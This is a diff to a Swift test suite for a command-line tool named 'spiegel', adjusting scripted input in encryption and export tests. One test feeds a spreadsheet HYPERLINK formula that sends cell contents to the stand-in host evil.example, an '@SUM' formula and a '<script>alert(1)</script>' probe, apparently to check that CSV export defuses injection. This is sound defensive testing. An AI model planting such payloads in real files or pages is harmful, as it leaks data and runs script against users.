@@ -206,7 +206,7 @@ struct TrustTests {
         let pass = try sandbox.write("pw\n", to: "pass")
         let env = ["SPIEGEL_PASSPHRASE_FILE": pass]
         #expect(try spiegel(["init", "--encrypt"], sandbox: sandbox, environment: env).status == 0)
-        let block = "start small-gesture-plan\neen\nchair\ncoffee\n\nthe chair\nskip\noffer water\nin 3 days\n4\n"
+        let block = "start small-gesture-plan\neen\nchair\ncoffee\n\nthe chair\nskip\n\noffer water\nin 3 days\n4\n"
         let three = try spiegel([], input: String(repeating: block, count: 3), sandbox: sandbox, environment: env)
         #expect(three.status == 0, "\(three)")
         // One sealed file damaged: decrypt opens what it can and stops there.
@@ -317,7 +317,7 @@ struct TrustTests {
         let sandbox = Sandbox("spiegel-trust")
         let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"klik")"#
         // One entry with a formula, a number with a leading zero, and Markdown that would restructure a page.
-        let script = "start small-gesture-plan\n\(formula)\n0612345678\n@SUM(A1)\n\n# x\n---\n<script>alert(1)</script>\nin 3 days\n4\n"
+        let script = "start small-gesture-plan\n\(formula)\n0612345678\n@SUM(A1)\n\n# x\n---\n\n<script>alert(1)</script>\nin 3 days\n4\n"
         let run = try spiegel([], input: script, sandbox: sandbox, environment: Self.env)
         #expect(run.status == 0, "\(run)")
         #expect(try spiegel(["export", "--format", "csv", "--output", "x.csv"], sandbox: sandbox).status == 0)
